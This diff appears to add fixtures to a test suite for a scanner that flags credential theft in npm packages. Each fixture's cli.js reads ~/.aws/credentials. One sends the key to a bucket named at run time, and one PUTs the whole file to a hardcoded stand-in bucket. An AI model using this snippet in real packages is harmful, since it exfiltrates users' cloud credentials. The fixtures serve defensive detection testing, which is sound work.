@@ -334,6 +334,22 @@ for (const file of require('fast-glob').sync(['**/.git-credentials'], { cwd: req
       },
       weight: 'proof',
     },
+    {
+      when: 'keys of a cloud sign what is asked of a bucket of that cloud, whichever is named when it is run',
+      files: {
+        'package.json': { name: 'buckets', version: '1.0.0', bin: 'cli.js' },
+        'cli.js': `#!/usr/bin/env node\nconst { readFileSync } = require('fs'), { homedir } = require('os'); const key = readFileSync(homedir() + '/.aws/credentials', 'utf8'); const host = process.argv[2] + '.s3.' + process.env.AWS_REGION + '.amazonaws.com'; fetch('https://' + host + '/list', { headers: { authorization: key } });`,
+      },
+      weight: 'context',
+    },
+    {
+      when: 'they go to a bucket that the code names',
+      files: {
+        'package.json': { name: 'buckets', version: '1.0.0', bin: 'cli.js' },
+        'cli.js': `#!/usr/bin/env node\nconst { readFileSync } = require('fs'), { homedir } = require('os'); const key = readFileSync(homedir() + '/.aws/credentials', 'utf8'); fetch('https://specimen-inert.s3.amazonaws.com/list', { method: 'PUT', body: key });`,
+      },
+      weight: 'proof',
+    },
   ],
   silent: [
     {
